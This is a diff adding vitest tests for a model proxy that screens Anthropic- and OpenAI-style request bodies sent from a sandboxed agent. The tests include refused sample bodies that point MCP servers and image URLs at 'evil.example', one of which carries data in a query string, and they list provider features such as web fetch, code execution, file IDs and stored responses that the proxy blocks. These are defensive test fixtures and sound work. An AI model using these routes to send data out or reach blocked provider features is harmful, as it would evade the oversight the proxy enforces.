@@ -4,6 +4,7 @@ import http from "node:http";
 import type { AddressInfo } from "node:net";
 import { afterEach, describe, expect, it } from "vitest";
 import { allowedCall, startModelProxy, type ModelProxy } from "../src/adapters/model-proxy.js";
+import { refusedRequest } from "../src/core/model-request.js";
 
 let upstream: http.Server | undefined;
 let proxy: ModelProxy | undefined;
@@ -133,6 +134,117 @@ describe("model proxy", () => {
       expect((await post(`${proxy.url}${p}`, key, "{}")).status, p).toBe(403);
     expect(seen).toHaveLength(0);
     expect(proxy.stats().refused).toBe(8);
+  });
+
+  it("a call's body may not make the provider fetch, connect or read stored data for the room", async () => {
+    const seen: Seen[] = [];
+    const root = await startUpstream(seen);
+    proxy = await startModelProxy({ upstream: root, apiKey: "sk-real", scheme: "anthropic" });
+    const key = { "x-api-key": proxy.placeholderKey, "content-type": "application/json" };
+    const msg = (extra: object) =>
+      JSON.stringify({ model: "m", max_tokens: 10, messages: [{ role: "user", content: "hi" }], ...extra });
+    const refused = [
+      msg({ mcp_servers: [{ type: "url", url: "https://evil.example/mcp", name: "x" }] }),
+      msg({ tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] }),
+      msg({ tools: [{ type: "code_execution_20250825", name: "code_execution" }] }),
+      msg({ container: "container_1" }),
+      msg({
+        messages: [
+          {
+            role: "user",
+            content: [
+              {
+                type: "tool_result",
+                tool_use_id: "t",
+                content: [{ type: "image", source: { type: "url", url: "https://evil.example/?d=src" } }],
+              },
+            ],
+          },
+        ],
+      }),
+      msg({
+        messages: [
+          { role: "user", content: [{ type: "document", source: { type: "file", file_id: "file_1" } }] },
+        ],
+      }),
+      "not json",
+    ];
+    for (const body of refused)
+      expect((await post(`${proxy.url}/v1/messages`, key, body)).status, body).not.toBe(200);
+    // Compressed bodies cannot be checked; the organisation header never goes up.
+    expect(
+      (await post(`${proxy.url}/v1/messages`, { ...key, "content-encoding": "gzip" }, msg({}))).status,
+    ).toBe(415);
+    expect(seen).toHaveLength(0);
+    const ok = msg({
+      tools: [
+        { name: "Bash", description: "run", input_schema: { type: "object" } },
+        { type: "web_search_20250305", name: "web_search" },
+      ],
+      messages: [
+        {
+          role: "user",
+          content: [{ type: "image", source: { type: "base64", media_type: "image/png", data: "AA==" } }],
+        },
+      ],
+    });
+    const passed = await post(`${proxy.url}/v1/messages`, { ...key, "anthropic-organization": "other" }, ok);
+    expect(passed.status).toBe(200);
+    expect(seen).toHaveLength(1);
+    expect(seen[0]!.body).toBe(ok);
+    expect(seen[0]!.headers["content-length"]).toBe(String(Buffer.byteLength(ok)));
+    expect(seen[0]!.headers["anthropic-organization"]).toBeUndefined();
+  });
+
+  it("OpenAI bodies: MCP, file search, URLs and stored items are refused; Codex's own tools pass", () => {
+    const base = {
+      model: "m",
+      input: [{ type: "message", role: "user", content: [{ type: "input_text", text: "hi" }] }],
+    };
+    for (const body of [
+      { ...base, tools: [{ type: "mcp", server_label: "x", server_url: "https://evil.example" }] },
+      { ...base, tools: [{ type: "file_search", vector_store_ids: ["vs_1"] }] },
+      { ...base, tools: [{ type: "code_interpreter", container: { type: "auto" } }] },
+      { ...base, previous_response_id: "resp_1" },
+      {
+        ...base,
+        input: [
+          { role: "user", content: [{ type: "input_image", image_url: "https://evil.example/x.png" }] },
+        ],
+      },
+      { ...base, input: [{ role: "user", content: [{ type: "input_file", file_id: "file_1" }] }] },
+      { ...base, input: [{ type: "item_reference", id: "msg_1" }] },
+      {
+        ...base,
+        tools: [
+          { type: "namespace", name: "n", tools: [{ type: "mcp", server_url: "https://evil.example" }] },
+        ],
+      },
+      {
+        ...base,
+        input: [{ type: "additional_tools", tools: [{ type: "file_search", vector_store_ids: ["vs_1"] }] }],
+      },
+    ])
+      expect(refusedRequest("openai", body), JSON.stringify(body)).toBeDefined();
+    expect(
+      refusedRequest("openai", {
+        ...base,
+        tools: [
+          { type: "function", name: "shell", parameters: {} },
+          { type: "custom", name: "apply_patch" },
+          { type: "local_shell" },
+          { type: "web_search" },
+          {
+            type: "namespace",
+            name: "codex",
+            tools: [{ type: "function", name: "exec_command", parameters: {} }],
+          },
+        ],
+        input: [
+          { role: "user", content: [{ type: "input_image", image_url: "data:image/png;base64,AA==" }] },
+        ],
+      }),
+    ).toBeUndefined();
   });
 
   it("the route list, per scheme", () => {
